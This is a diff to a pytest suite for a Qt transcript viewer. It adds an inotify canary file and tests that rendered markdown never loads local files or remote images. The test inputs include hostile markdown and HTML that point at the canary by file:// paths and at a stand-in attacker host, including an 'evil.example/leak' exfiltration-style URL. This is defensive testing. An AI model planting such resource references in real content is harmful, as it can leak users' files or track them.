@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import ctypes
 import gc
+import os
 import random
+import sys
 import time
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -25,6 +28,7 @@ from desktop.qt.transcript.view import TranscriptView
 from tests.qt.transcript.conftest import answer
 
 MEGABYTE = 1_000_000
+IN_OPEN = 0x20
 Settled = Callable[[], None]
 SLOWEST_MS = 200.0
 
@@ -51,24 +55,52 @@ class Heartbeat(QObject):
         self._timer.stop()
 
 
+class Canary:
+    """A file that notes every time something opens it (inotify)."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = path
+        path.write_bytes(b"not to be read")
+        libc = ctypes.CDLL(None, use_errno=True)
+        self._watch = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
+        assert libc.inotify_add_watch(self._watch, str(path).encode(), IN_OPEN) >= 0
+
+    def opened(self) -> bool:
+        try:
+            return bool(os.read(self._watch, 4096))
+        except BlockingIOError:
+            return False
+
+    def close(self) -> None:
+        os.close(self._watch)
+
+
 @pytest.fixture
-def canary(tmp_path: Path) -> Path:
-    path = tmp_path / "canary.png"
-    path.write_bytes(b"not to be read")
-    return path
+def canary(tmp_path: Path) -> Iterator[Canary]:
+    made = Canary(tmp_path / "canary.png")
+    yield made
+    made.close()
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="inotify is Linux's")
+def test_the_canary_sings(canary: Canary) -> None:
+    assert not canary.opened()
+    canary.path.read_bytes()
+    assert canary.opened()
 
 
 @pytest.mark.accept(20)
-def test_no_text_makes_the_widgets_load_anything(view: TranscriptView, settled: Settled, canary: Path) -> None:
-    opened = canary.stat().st_atime_ns
+@pytest.mark.skipif(sys.platform != "linux", reason="inotify is Linux's")
+def test_no_text_makes_the_widgets_load_anything(view: TranscriptView, settled: Settled, canary: Canary) -> None:
+    path = canary.path
     view.set_messages(
         [
             answer(
                 1,
-                f"![a](file://{canary}) ![b]({canary}) ![c][r] <img src='file://{canary}'>\n\n"
-                f"<img src='https://evil.example/x.png'>\n\n<link rel=stylesheet href='file://{canary}'>\n\n"
-                f"| ![t](file://{canary}) |\n|---|\n| <img src='{canary}'> |\n\n"
-                f"- ![l](file://{canary})\n\n> ![q](https://evil.example/leak?d=1)\n\n[r]: file://{canary}\n",
+                f"![a](file://{path}) ![b]({path}) ![c][r] <img src='file://{path}'>\n\n"
+                f"<img src='https://evil.example/x.png'>\n\n<link rel=stylesheet href='file://{path}'>\n\n"
+                f"| ![t](file://{path}) |\n|---|\n| <img src='{path}'> |\n\n"
+                f"- ![l](file://{path})\n\n> ![q](https://evil.example/leak?d=1)\n\n[r]: file://{path}\n",
             )
         ]
     )
@@ -76,13 +108,13 @@ def test_no_text_makes_the_widgets_load_anything(view: TranscriptView, settled: 
     browsers = view.viewport().findChildren(ProseBrowser)
     assert browsers
     for browser in browsers:
-        for address in (f"file://{canary}", str(canary), "https://evil.example/x.png"):
+        for address in (f"file://{path}", str(path), "https://evil.example/x.png"):
             for kind in QTextDocument.ResourceType:
-                assert browser.loadResource(kind.value, QUrl(address)) is None
-                assert browser.document().resource(kind.value, QUrl(address)) is None
+                assert bytes(browser.loadResource(kind.value, QUrl(address))) == b""
+                assert bytes(browser.document().resource(kind.value, QUrl(address))) == b""
         assert "<img" not in browser.document().toHtml().replace("&lt;img", "")
         assert not browser.openLinks() and not browser.openExternalLinks()
-    assert canary.stat().st_atime_ns == opened
+    assert not canary.opened()
     assert all(label.textFormat() == Qt.TextFormat.PlainText for label in view.findChildren(QLabel))
 
 
@@ -136,12 +168,7 @@ def test_a_megabyte_of_hostile_markdown_never_stalls_the_window(
 def test_five_thousand_random_texts_do_not_crash() -> None:
     parser = make_parser()
     dice = random.Random(22)
-    alphabet = list("abc *_`~[]()<>!#-+.|\\\"'$&;:/=\t\n\n 1\u2029\u202e\ufdd0\ufffc\x00𝒜é") + [
-        "```\n",
-        "\n\n",
-        "](",
-        "$$",
-    ]
+    alphabet = [*"abc *_`~[]()<>!#-+.|\\\"'$&;:/=\t\n\n 1\u2029\u202e\ufdd0\ufffc\x00𝒜é", "```\n", "\n\n", "](", "$$"]
     for _ in range(5000):
         text = "".join(dice.choices(alphabet, k=dice.randrange(1, 120)))
         splitter = BlockSplitter(parser)
@@ -161,12 +188,7 @@ def test_five_thousand_random_texts_do_not_crash() -> None:
 @pytest.mark.accept(22)
 def test_two_hundred_random_texts_are_shown(view: TranscriptView, settled: Settled) -> None:
     dice = random.Random(23)
-    alphabet = list("ab *_`~[]()<>!#-+.|\\$&\t\n\n 1\u2029\u202e\ufdd0\ufffc\x00𝒜é") + [
-        "```\n",
-        "\n\n",
-        "](",
-        "|-|-|\n",
-    ]
+    alphabet = [*"ab *_`~[]()<>!#-+.|\\$&\t\n\n 1\u2029\u202e\ufdd0\ufffc\x00𝒜é", "```\n", "\n\n", "](", "|-|-|\n"]
     messages = [answer(n, "".join(dice.choices(alphabet, k=300))) for n in range(200)]
     view.set_messages(messages)
     settled()
@@ -204,10 +226,8 @@ def test_formulas_are_drawn(source: str) -> None:
     picture = draw_formula(FormulaKey(source, "#000000", 18, 2.0, True))
     assert picture.image is not None
     assert picture.image.devicePixelRatio() == 2.0
-    ink = sum(
-        picture.image.pixelColor(x, picture.image.height() // 2).alpha() > 0 for x in range(picture.image.width())
-    )
-    assert ink > 0 or source == "\\frac{a}{b}"
+    size = picture.image.size()
+    assert any(picture.image.pixelColor(x, y).alpha() for x in range(size.width()) for y in range(size.height()))
 
 
 @pytest.mark.accept(22)
